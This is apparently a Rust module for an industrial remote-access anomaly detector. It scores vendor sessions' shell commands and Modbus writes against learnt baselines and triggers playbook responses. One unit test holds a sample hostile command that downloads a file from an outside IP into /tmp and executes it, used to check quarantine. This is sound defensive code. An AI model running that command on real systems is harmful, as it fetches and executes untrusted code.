//! The detector: scores each session event against the learnt models and the attacker
//! knowledge, keeps each live session's risk with its explanation, decides the playbook's
//! response, and learns from sessions that stayed normal.

use std::collections::{BTreeSet, HashMap, VecDeque};

use serde::Serialize;
use time::OffsetDateTime;
use utoipa::ToSchema;

use otgate_policy::PurdueLevel;

use crate::commands::{self, Contrast, Counts, Others};
use crate::config::DetectorConfig;
use crate::error::{DetectorError, Result};
use crate::hours;
use crate::industrial::slot;
use crate::observation::{ModbusRequest, Observation, Observed, SessionContext};
use crate::playbook::{Playbook, Response};
use crate::probing::{self, Burst};
use crate::profile::{AssetProfile, MAX_ITEMS, PairProfile, VendorProfile};
use crate::reach;
use crate::score::{Finding, Risk, combine};
use crate::words;
use crate::{attacks, industrial};

/// Commands in the sliding window compared with the vendor's usual blocks.
pub const WINDOW: usize = 20;
/// Events learnt together once none of them raised an alert.
pub const LEARN_BLOCK: usize = 100;
/// Distinct Modbus requests remembered per session for scans.
const MAX_ASKED: usize = 4096;

/// The detector's verdict on one event.
#[derive(Clone, Debug, PartialEq, Serialize, ToSchema)]
pub struct Assessment {
    /// The session.
    pub session: String,
    /// Its grant.
    pub grant: Option<i64>,
    /// The vendor.
    pub vendor: String,
    /// The asset.
    pub asset: String,
    /// The asset's zone.
    pub zone: Option<String>,
    /// The asset's level (`"1"`).
    pub level: Option<String>,
    /// This event's score, 0-100.
    pub score: u8,
    /// The session's risk after it, 0-100.
    pub risk: u8,
    /// What this event showed.
    pub findings: Vec<Finding>,
    /// The session's strongest findings, strongest first.
    pub top: Vec<Finding>,
    /// The session's strongest findings, in one line.
    pub explanation: String,
    /// What to do now, when the risk or a rule calls for more than was done already.
    pub response: Option<Response>,
    /// The rule that acted, when one did.
    pub rule: Option<String>,
}

/// A live session as the detector follows it.
#[derive(Debug)]
struct Live {
    context: SessionContext,
    risk: Risk,
    taken: Option<Response>,
    denials: Burst,
    exceptions: Burst,
    novel: Burst,
    asked: BTreeSet<(u8, u8, u16, u16)>,
    recent: attacks::Recent,
    window: VecDeque<String>,
    rate: (i64, u32),
    peak: u32,
    pending: Vec<Observation>,
    pending_clean: bool,
    clean: bool,
    last: OffsetDateTime,
}

/// Sizes of what the detector holds.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, ToSchema)]
pub struct Sizes {
    /// Vendor models.
    pub vendors: usize,
    /// Asset models.
    pub assets: usize,
    /// Vendor-and-asset models.
    pub pairs: usize,
    /// Live sessions.
    pub sessions: usize,
}

/// The detector.
#[derive(Debug)]
pub struct Detector {
    config: DetectorConfig,
    playbook: Playbook,
    population: Counts,
    vendors: HashMap<String, VendorProfile>,
    assets: HashMap<String, AssetProfile>,
    pairs: HashMap<String, PairProfile>,
    sessions: HashMap<String, Live>,
    dirty: BTreeSet<String>,
}

fn pair_key(vendor: &str, asset: &str) -> String {
    format!("{vendor}/{asset}")
}

impl Detector {
    /// A detector with nothing learnt yet.
    pub fn new(config: DetectorConfig) -> Result<Self> {
        let playbook = Playbook::new(&config.playbook)?;
        Ok(Self {
            config,
            playbook,
            population: Counts::default(),
            vendors: HashMap::new(),
            assets: HashMap::new(),
            pairs: HashMap::new(),
            sessions: HashMap::new(),
            dirty: BTreeSet::new(),
        })
    }

    /// The playbook in force.
    pub fn playbook(&self) -> &Playbook {
        &self.playbook
    }

    /// The configuration.
    pub fn config(&self) -> &DetectorConfig {
        &self.config
    }

    /// How much is held.
    pub fn sizes(&self) -> Sizes {
        Sizes {
            vendors: self.vendors.len(),
            assets: self.assets.len(),
            pairs: self.pairs.len(),
            sessions: self.sessions.len(),
        }
    }

    /// The live sessions.
    pub fn live(&self) -> impl Iterator<Item = &SessionContext> {
        self.sessions.values().map(|l| &l.context)
    }

    fn assessment(live: &Live, score: u8, findings: Vec<Finding>) -> Assessment {
        Assessment {
            session: live.context.id.clone(),
            grant: live.context.grant,
            vendor: live.context.vendor.clone(),
            asset: live.context.asset.clone(),
            zone: live.context.zone.clone(),
            level: live.context.level.map(|l| l.as_str().to_owned()),
            score,
            risk: live.risk.value,
            findings,
            top: live.risk.findings.clone(),
            explanation: live.risk.explain(),
            response: None,
            rule: None,
        }
    }

    /// A session starts: scores when and where (working hours, maintenance windows, first
    /// contact) and follows it from now on.
    pub fn start(&mut self, context: SessionContext) -> Assessment {
        let mut findings = Vec::new();
        let at = context.started_at;
        if let Some(vendor) = self.vendors.get(&context.vendor) {
            let warm = vendor.sessions >= self.config.warmup_sessions;
            vendor.hours.score(&context.vendor, at, warm, &mut findings);
            reach::score_first_contact(
                &context.vendor,
                &context.asset,
                vendor.assets.contains_key(&context.asset),
                warm,
                &mut findings,
            );
        }
        hours::score_maintenance(&context.asset, &context.maintenance, at, &mut findings);
        let live = Live {
            context,
            risk: Risk::default(),
            taken: None,
            denials: Burst::default(),
            exceptions: Burst::default(),
            novel: Burst::default(),
            asked: BTreeSet::new(),
            recent: attacks::Recent::default(),
            window: VecDeque::new(),
            rate: (0, 0),
            peak: 0,
            pending: Vec::new(),
            pending_clean: true,
            clean: true,
            last: at,
        };
        let id = live.context.id.clone();
        self.sessions.insert(id.clone(), live);
        self.conclude(&id, findings, None)
            .unwrap_or_else(|| Assessment {
                session: id,
                grant: None,
                vendor: String::new(),
                asset: String::new(),
                zone: None,
                level: None,
                score: 0,
                risk: 0,
                findings: Vec::new(),
                top: Vec::new(),
                explanation: String::new(),
                response: None,
                rule: None,
            })
    }

    /// Scores one event of a live session; `None` for a session the detector does not
    /// follow.
    pub fn observe(&mut self, observation: &Observation) -> Option<Assessment> {
        let live = self.sessions.get_mut(&observation.session)?;
        live.last = observation.at;
        let (vendor_name, asset_name) = (live.context.vendor.clone(), live.context.asset.clone());
        let mut findings = Vec::new();
        let mut rule: Option<(String, Response)> = None;
        if observation.what.denied() {
            let count = live.denials.add(observation.at);
            probing::score_denials(count, &mut findings);
        }
        match &observation.what {
            Observed::Command { line, .. } => {
                let programs = words::programs(line);
                attacks::score_line(line, &mut findings);
                let empty = VendorProfile::default();
                let vendor = self.vendors.get(&vendor_name).unwrap_or(&empty);
                let warm = vendor.commands.total() >= self.config.warmup_commands;
                let contrast = Contrast {
                    own: &vendor.commands,
                    others: Others::AllBut(&self.population),
                    vocabulary: (self.population.distinct() + 1) as f64,
                };
                for program in &programs {
                    for r in &self.playbook.rules {
                        if r.fires_on_program(&asset_name, &program.name) {
                            findings.push(Finding::new(
                                "rule",
                                100,
                                format!(
                                    "rule `{}`: `{}` on {asset_name}",
                                    r.config.name, program.name
                                ),
                            ));
                            rule = strongest(rule, &r.config.name, r.config.action);
                        }
                    }
                    attacks::score(&mut live.recent, program, &mut findings);
                    reach::score_lateral(
                        &asset_name,
                        &live.context.addresses,
                        program,
                        &mut findings,
                    );
                    if warm {
                        commands::score_novelty(
                            &vendor_name,
                            &program.name,
                            &vendor.commands,
                            &self.population,
                            &mut findings,
                        );
                        live.window.push_back(program.name.clone());
                        if live.window.len() > WINDOW {
                            live.window.pop_front();
                        }
                    }
                }
                if warm && live.window.len() == WINDOW {
                    let window: Vec<&String> = live.window.iter().collect();
                    let score = contrast.score(&window);
                    commands::score_window(
                        &vendor_name,
                        vendor.calibration.z(score),
                        WINDOW,
                        &mut findings,
                    );
                }
            }
            Observed::Modbus { request, .. } => {
                for r in &self.playbook.rules {
                    if r.fires_on_modbus(&asset_name, request) {
                        findings.push(Finding::new(
                            "rule",
                            100,
                            format!(
                                "rule `{}`: write to {} {} on {asset_name}",
                                r.config.name,
                                request.table.map_or("register", |t| t.name()),
                                request.start.unwrap_or(0)
                            ),
                        ));
                        rule = strongest(rule, &r.config.name, r.config.action);
                    }
                }
                if request.exception.is_some() {
                    let count = live.exceptions.add(observation.at);
                    probing::score_exceptions(&asset_name, count, &mut findings);
                }
                // A scan: many addresses or functions this session never asked for and the
                // unit's profile does not know, within a minute.
                let key = (
                    request.unit,
                    request.function,
                    request.start.unwrap_or(0),
                    request.count.unwrap_or(0),
                );
                let known = self
                    .assets
                    .get(&asset_name)
                    .and_then(|a| a.units.get(&request.unit))
                    .is_some_and(|u| u.knows(request));
                if !known && live.asked.len() < MAX_ASKED && live.asked.insert(key) {
                    let count = live.novel.add(observation.at);
                    probing::score_scan(&asset_name, count, &mut findings);
                }
                let now = observation.at.unix_timestamp();
                if now - live.rate.0 >= 10 {
                    live.rate = (now, 0);
                }
                live.rate.1 = live.rate.1.saturating_add(1);
                live.peak = live.peak.max(live.rate.1);
                let peak = self.assets.get(&asset_name).map_or(0, |a| a.peak_rate);
                let empty = industrial::UnitProfile::default();
                let unit = self
                    .assets
                    .get(&asset_name)
                    .and_then(|a| a.units.get(&request.unit))
                    .unwrap_or(&empty);
                let warm = unit.requests >= self.config.warmup_requests;
                unit.score(&asset_name, request, warm, &mut findings);
                industrial::score_rate(&asset_name, live.rate.1, peak, warm, &mut findings);
                if warm && request.is_write() && findings.is_empty() {
                    self.score_pair(&vendor_name, &asset_name, request, &mut findings);
                }
            }
            Observed::Forward { host, port, .. } => {
                reach::score_forward(
                    &asset_name,
                    &live.context.addresses,
                    host,
                    *port,
                    &mut findings,
                );
            }
            Observed::FileTransfer { path, upload, .. } => {
                if *upload && attacks::is_dropped_executable(path) {
                    findings.push(Finding::new(
                        "attack",
                        45,
                        format!("upload of `{path}` to {asset_name}: a file dropped where attackers stage tools"),
                    ));
                }
            }
            Observed::Flow {
                client,
                server,
                port,
            } => {
                let key = format!("{client}>{server}:{port}");
                let known = self
                    .assets
                    .get(&asset_name)
                    .is_some_and(|a| a.flows.contains(&key));
                // Flows come from captures, where anything not seen while learning is new.
                if !known {
                    findings.push(Finding::new(
                        "reach",
                        70,
                        format!("first connection from {client} to {server}:{port}"),
                    ));
                }
            }
        }
        let rule = rule;
        let id = observation.session.clone();
        if let Some(live) = self.sessions.get_mut(&id) {
            live.pending.push(observation.clone());
        }
        let assessment = self.conclude(&id, findings, rule);
        if let Some(live) = self.sessions.get(&id)
            && live.pending.len() >= LEARN_BLOCK
        {
            self.learn_pending(&id);
        }
        assessment
    }

    fn score_pair(
        &self,
        vendor: &str,
        asset: &str,
        request: &ModbusRequest,
        out: &mut Vec<Finding>,
    ) {
        let Some(pair) = self.pairs.get(&pair_key(vendor, asset)) else {
            return;
        };
        let (Some(table), Some(start)) = (request.table, request.start) else {
            return;
        };
        if pair.requests >= self.config.warmup_requests
            && !pair.written.contains(&slot(table, start))
        {
            out.push(Finding::new(
                "modbus",
                35,
                format!(
                    "first write by {vendor} to {} {start} on {asset} (others write it)",
                    table.name()
                ),
            ));
        }
    }

    /// Adds an event's findings to its session's risk and decides the response.
    fn conclude(
        &mut self,
        id: &str,
        findings: Vec<Finding>,
        rule: Option<(String, Response)>,
    ) -> Option<Assessment> {
        let live = self.sessions.get_mut(id)?;
        let score = combine(&findings);
        let at = live.last;
        live.risk.add(score, &findings, at);
        let thresholds = self
            .playbook
            .thresholds(live.context.level, live.context.zone.as_deref());
        if thresholds.alert.is_some_and(|a| score >= a) {
            live.pending_clean = false;
        }
        if thresholds.alert.is_some_and(|a| live.risk.value >= a) {
            live.clean = false;
        }
        let by_risk = self.playbook.response(
            live.context.level,
            live.context.zone.as_deref(),
            live.risk.value,
        );
        let wanted = by_risk.max(rule.as_ref().map(|(_, r)| *r));
        let mut assessment = Self::assessment(live, score, findings);
        if wanted > live.taken {
            live.taken = wanted;
            assessment.response = wanted;
            assessment.rule = rule.map(|(name, _)| name);
        }
        Some(assessment)
    }

    /// Raises the risk of every live session on `asset` for an external alert of
    /// `severity` (0-10) and decides their responses.
    pub fn external(
        &mut self,
        asset: &str,
        severity: u8,
        title: &str,
        at: OffsetDateTime,
    ) -> Vec<Assessment> {
        let ids: Vec<String> = self
            .sessions
            .values()
            .filter(|l| l.context.asset == asset)
            .map(|l| l.context.id.clone())
            .collect();
        let mut out = Vec::new();
        for id in ids {
            if let Some(live) = self.sessions.get_mut(&id) {
                live.last = at;
            }
            let finding = Finding::new(
                "external",
                severity.min(10).saturating_mul(10),
                format!("external alert on {asset}: {title}"),
            );
            if let Some(a) = self.conclude(&id, vec![finding], None) {
                out.push(a);
            }
        }
        out
    }

    /// A session ended: what it did is learnt if it stayed normal, and it is forgotten.
    pub fn end(&mut self, id: &str) {
        self.learn_pending(id);
        let Some(live) = self.sessions.remove(id) else {
            return;
        };
        if !live.clean {
            return;
        }
        let context = &live.context;
        let vendor = self.vendors.entry(context.vendor.clone()).or_default();
        vendor.sessions = vendor.sessions.saturating_add(1);
        if vendor.assets.len() < MAX_ITEMS || vendor.assets.contains_key(&context.asset) {
            *vendor.assets.entry(context.asset.clone()).or_default() += 1;
        }
        // Every hour the session spanned, up to a day.
        let mut t = context.started_at;
        for _ in 0..24 {
            vendor.hours.learn(t);
            t += time::Duration::hours(1);
            if t > live.last {
                break;
            }
        }
        self.dirty.insert(format!("vendor:{}", context.vendor));
    }

    /// Learns the session's pending events if none of them raised an alert.
    fn learn_pending(&mut self, id: &str) {
        let Some(live) = self.sessions.get_mut(id) else {
            return;
        };
        let pending = std::mem::take(&mut live.pending);
        let clean = std::mem::replace(&mut live.pending_clean, true);
        let (vendor, asset) = (live.context.vendor.clone(), live.context.asset.clone());
        let peak = std::mem::take(&mut live.peak);
        if clean {
            self.learn(&vendor, &asset, &pending);
            if peak > 0 {
                let profile = self.assets.entry(asset.clone()).or_default();
                profile.peak_rate = profile.peak_rate.max(peak);
            }
        }
    }

    /// Learns events as normal for `vendor` on `asset` (also how an engineer's "false
    /// positive" feeds the baseline).
    pub fn learn(&mut self, vendor: &str, asset: &str, observations: &[Observation]) {
        let mut names = Vec::new();
        for observation in observations {
            match &observation.what {
                Observed::Command {
                    line,
                    allowed: true,
                } => names.extend(words::names(line)),
                Observed::Modbus {
                    request,
                    allowed: true,
                } => {
                    let profile = self.assets.entry(asset.to_owned()).or_default();
                    let unit = profile.units.entry(request.unit).or_default();
                    unit.learn(request);
                    let pair = self.pairs.entry(pair_key(vendor, asset)).or_default();
                    pair.requests += 1;
                    if request.is_write()
                        && pair.written.len() < MAX_ITEMS
                        && let (Some(table), Some(start)) = (request.table, request.start)
                    {
                        pair.written.insert(slot(table, start));
                    }
                    self.dirty.insert(format!("asset:{asset}"));
                    self.dirty
                        .insert(format!("pair:{}", pair_key(vendor, asset)));
                }
                Observed::Flow {
                    client,
                    server,
                    port,
                } => {
                    let profile = self.assets.entry(asset.to_owned()).or_default();
                    if profile.flows.len() < MAX_ITEMS {
                        profile.flows.insert(format!("{client}>{server}:{port}"));
                    }
                }
                _ => {}
            }
        }
        if !names.is_empty() {
            self.learn_commands(vendor, &names);
        }
    }

    /// Learns what an alert an engineer marked a false positive was about: its events, their
    /// hours, and the vendor's contact with the asset.
    pub fn learn_false_positive(
        &mut self,
        vendor: &str,
        asset: &str,
        observations: &[Observation],
    ) {
        self.learn(vendor, asset, observations);
        let profile = self.vendors.entry(vendor.to_owned()).or_default();
        for observation in observations {
            profile.hours.learn(observation.at);
        }
        if profile.assets.len() < MAX_ITEMS || profile.assets.contains_key(asset) {
            profile.assets.entry(asset.to_owned()).or_insert(1);
        }
        self.dirty.insert(format!("vendor:{vendor}"));
    }

    /// Learns a block of commands for a vendor: first its score against the model so far
    /// calibrates what usual looks like, then its counts.
    pub fn learn_commands(&mut self, vendor: &str, names: &[String]) {
        let profile = self.vendors.entry(vendor.to_owned()).or_default();
        // Each block is scored against the model before it joins it (prequential), so the
        // calibration says how usual blocks score, drift included.
        for chunk in names.chunks(WINDOW) {
            if profile.commands.total() >= self.config.warmup_commands && chunk.len() == WINDOW {
                let contrast = Contrast {
                    own: &profile.commands,
                    others: Others::AllBut(&self.population),
                    vocabulary: (self.population.distinct() + 1) as f64,
                };
                profile.calibration.add(contrast.score(chunk));
            }
            profile.commands.add_block(chunk);
            self.population.add_block(chunk);
        }
        self.dirty.insert(format!("vendor:{vendor}"));
        self.dirty.insert("population".into());
    }

    /// The models changed since the last call, as (key, JSON) pairs to store.
    pub fn take_dirty(&mut self) -> Vec<(String, String)> {
        let keys = std::mem::take(&mut self.dirty);
        keys.into_iter()
            .filter_map(|key| {
                let body = match key.split_once(':') {
                    Some(("vendor", name)) => self.vendors.get(name).map(serde_json::to_string),
                    Some(("asset", name)) => self.assets.get(name).map(serde_json::to_string),
                    Some(("pair", name)) => self.pairs.get(name).map(serde_json::to_string),
                    _ if key == "population" => Some(serde_json::to_string(&self.population)),
                    _ => None,
                };
                Some((key, body?.ok()?))
            })
            .collect()
    }

    /// Loads a stored model.
    pub fn load(&mut self, key: &str, body: &str) -> Result<()> {
        let bad = |e: serde_json::Error| DetectorError::Model {
            key: key.to_owned(),
            reason: e.to_string(),
        };
        match key.split_once(':') {
            Some(("vendor", name)) => {
                self.vendors
                    .insert(name.to_owned(), serde_json::from_str(body).map_err(bad)?);
            }
            Some(("asset", name)) => {
                self.assets
                    .insert(name.to_owned(), serde_json::from_str(body).map_err(bad)?);
            }
            Some(("pair", name)) => {
                self.pairs
                    .insert(name.to_owned(), serde_json::from_str(body).map_err(bad)?);
            }
            _ if key == "population" => {
                self.population = serde_json::from_str(body).map_err(bad)?
            }
            _ => {
                return Err(DetectorError::Model {
                    key: key.to_owned(),
                    reason: "unknown kind of model".into(),
                });
            }
        }
        Ok(())
    }

    /// A live session's risk now.
    pub fn risk_of(&self, session: &str) -> Option<u8> {
        self.sessions.get(session).map(|l| l.risk.value)
    }

    /// The level of a live session, for the fail mode.
    pub fn level_of(&self, session: &str) -> Option<PurdueLevel> {
        self.sessions.get(session).and_then(|l| l.context.level)
    }
}

fn strongest(
    current: Option<(String, Response)>,
    name: &str,
    action: Response,
) -> Option<(String, Response)> {
    match current {
        Some((n, r)) if r >= action => Some((n, r)),
        _ => Some((name.to_owned(), action)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::observation::Table;
    use time::macros::datetime;

    const T0: OffsetDateTime = datetime!(2026-12-02 10:00 UTC);

    fn context(id: &str, vendor: &str, asset: &str, level: PurdueLevel) -> SessionContext {
        SessionContext {
            id: id.into(),
            grant: Some(7),
            vendor: vendor.into(),
            asset: asset.into(),
            zone: Some("line-1".into()),
            level: Some(level),
            addresses: vec!["10.0.1.7".into()],
            maintenance: Vec::new(),
            started_at: T0,
        }
    }

    fn command(session: &str, i: i64, line: &str) -> Observation {
        Observation {
            session: session.into(),
            at: T0 + time::Duration::seconds(i),
            what: Observed::Command {
                line: line.into(),
                allowed: true,
            },
        }
    }

    fn write(session: &str, i: i64, address: u16, value: u16) -> Observation {
        Observation {
            session: session.into(),
            at: T0 + time::Duration::seconds(i),
            what: Observed::Modbus {
                request: ModbusRequest {
                    unit: 1,
                    function: 6,
                    table: Some(Table::Holding),
                    start: Some(address),
                    count: Some(1),
                    values: vec![value],
                    exception: None,
                },
                allowed: true,
            },
        }
    }

    fn small() -> DetectorConfig {
        DetectorConfig {
            warmup_commands: 40,
            warmup_requests: 40,
            warmup_sessions: 2,
            ..DetectorConfig::default()
        }
    }

    #[test]
    fn attacker_commands_terminate_a_level_one_session_at_once() {
        let mut d = Detector::new(DetectorConfig::default()).unwrap();
        let start = d.start(context("s1", "v", "plc-gw", PurdueLevel::L1));
        assert_eq!((start.score, start.response), (0, None));
        let a = d
            .observe(&command(
                "s1",
                1,
                "cd /tmp; wget http://198.51.100.7/x; chmod +x x; ./x",
            ))
            .unwrap();
        assert!(a.risk >= 95, "{a:?}");
        assert_eq!(a.response, Some(Response::Quarantine));
        assert!(
            a.explanation.contains("download then execute"),
            "{}",
            a.explanation
        );
        // The response is given once; the next event does not repeat it.
        let again = d.observe(&command("s1", 2, "ls")).unwrap();
        assert_eq!(again.response, None);
        assert!(d.observe(&command("nobody", 3, "ls")).is_none());
    }

    #[test]
    fn modbus_profiles_learn_from_clean_sessions_and_flag_what_is_new() {
        let mut d = Detector::new(small()).unwrap();
        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
        for i in 0..60u16 {
            let a = d
                .observe(&write("train", i64::from(i), 100 + i % 5, 100 + i))
                .unwrap();
            assert_eq!(a.response, None, "{a:?}");
        }
        d.end("train");
        d.start(context("s2", "v", "plc-7", PurdueLevel::L2));
        let usual = d.observe(&write("s2", 100, 102, 130)).unwrap();
        assert_eq!(usual.score, 0, "{usual:?}");
        let far = d.observe(&write("s2", 101, 102, 5000)).unwrap();
        assert!(far.score >= 80, "{far:?}");
        assert!(
            far.explanation
                .contains("outside the values seen (102-157)"),
            "{}",
            far.explanation
        );
        // Level 2 terminates at 90.
        assert_eq!(far.response, Some(Response::Terminate));
        let new = d.observe(&write("s2", 102, 4000, 1)).unwrap();
        assert!(
            new.findings[0]
                .text
                .contains("first write to holding 4000 on plc-7")
        );
        // The flagged session is not learnt: the far value stays abnormal.
        d.end("s2");
        d.start(context("s3", "v", "plc-7", PurdueLevel::L2));
        assert!(d.observe(&write("s3", 200, 102, 5000)).unwrap().score >= 80);
    }

    #[test]
    fn false_positives_feed_the_baseline() {
        let mut d = Detector::new(small()).unwrap();
        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
        for i in 0..60u16 {
            d.observe(&write("train", i64::from(i), 100, 100 + i));
        }
        d.end("train");
        d.start(context("s2", "v", "plc-7", PurdueLevel::L2));
        let odd = write("s2", 100, 100, 900);
        assert!(d.observe(&odd).unwrap().score >= 80);
        d.end("s2");
        d.learn_false_positive("v", "plc-7", std::slice::from_ref(&odd));
        d.start(context("s3", "v", "plc-7", PurdueLevel::L2));
        let again = Observation {
            session: "s3".into(),
            ..odd
        };
        assert_eq!(d.observe(&again).unwrap().score, 0);
    }

    #[test]
    fn models_survive_a_restart() {
        let mut d = Detector::new(small()).unwrap();
        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
        for i in 0..60u16 {
            d.observe(&write("train", i64::from(i), 100, 100 + i));
            d.observe(&command(
                "train",
                i64::from(i),
                "systemctl status historian",
            ));
        }
        d.end("train");
        let stored = d.take_dirty();
        assert!(stored.iter().any(|(k, _)| k == "vendor:v"), "{stored:?}");
        assert!(stored.iter().any(|(k, _)| k == "asset:plc-7"));
        assert!(d.take_dirty().is_empty());
        let mut restarted = Detector::new(small()).unwrap();
        for (key, body) in &stored {
            restarted.load(key, body).unwrap();
        }
        restarted.start(context("s2", "v", "plc-7", PurdueLevel::L2));
        assert!(
            restarted
                .observe(&write("s2", 100, 100, 5000))
                .unwrap()
                .score
                >= 80
        );
        assert!(restarted.load("vendor:x", "{not json").is_err());
        assert!(restarted.load("gadget:x", "{}").is_err());
    }

    #[test]
    fn external_alerts_raise_the_risk_of_the_assets_sessions() {
        let mut d = Detector::new(DetectorConfig::default()).unwrap();
        d.start(context("a", "v", "plc-7", PurdueLevel::L1));
        d.start(context("b", "w", "hmi-2", PurdueLevel::L2));
        let touched = d.external("plc-7", 6, "ET SCADA write from unusual host", T0);
        assert_eq!(touched.len(), 1);
        assert_eq!(touched[0].session, "a");
        assert_eq!(touched[0].response, Some(Response::Freeze));
        assert!(touched[0].explanation.contains("external alert on plc-7"));
    }

    #[test]
    fn rules_act_at_once_whatever_the_score() {
        let mut config = DetectorConfig::default();
        config.playbook.rules.push(crate::playbook::RuleConfig {
            name: "safety PLC trips".into(),
            modbus_write: Some("holding:4000-4099".into()),
            commands: vec![],
            assets: vec!["plc-7".into()],
            action: Response::Terminate,
        });
        let mut d = Detector::new(config).unwrap();
        d.start(context("s", "v", "plc-7", PurdueLevel::L3));
        let a = d.observe(&write("s", 1, 4010, 0)).unwrap();
        assert_eq!(a.response, Some(Response::Terminate));
        assert_eq!(a.rule.as_deref(), Some("safety PLC trips"));
    }

    #[test]
    fn vendors_get_hours_and_first_contacts_once_warm() {
        let mut d = Detector::new(small()).unwrap();
        for day in 0..3 {
            let mut c = context(&format!("d{day}"), "v", "plc-7", PurdueLevel::L2);
            c.started_at = T0 + time::Duration::days(day);
            d.start(c);
            d.end(&format!("d{day}"));
        }
        let mut night = context("n", "v", "hmi-9", PurdueLevel::L2);
        night.started_at = datetime!(2026-12-06 02:14 UTC);
        let a = d.start(night);
        let texts: Vec<&str> = a.findings.iter().map(|f| f.text.as_str()).collect();
        assert!(
            texts.contains(&"Sun 02:14 UTC is outside v's usual hours"),
            "{texts:?}"
        );
        assert!(texts.contains(&"first session of v on hmi-9"), "{texts:?}");
    }
}
